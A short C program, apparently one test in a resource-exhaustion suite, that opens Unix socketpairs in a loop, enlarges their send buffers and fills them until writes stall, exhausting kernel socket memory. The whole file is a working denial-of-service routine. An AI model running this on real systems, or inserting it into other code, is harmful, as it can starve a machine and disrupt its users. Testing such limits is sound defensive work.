#include "attack.h"
int main(void)
{
	static char block[1 << 16];
	int s[2], size = 1 << 30;
	while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, s) == 0) {
		setsockopt(s[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
		while (write(s[0], block, sizeof block) > 0) { }
	}
	return finish();
}
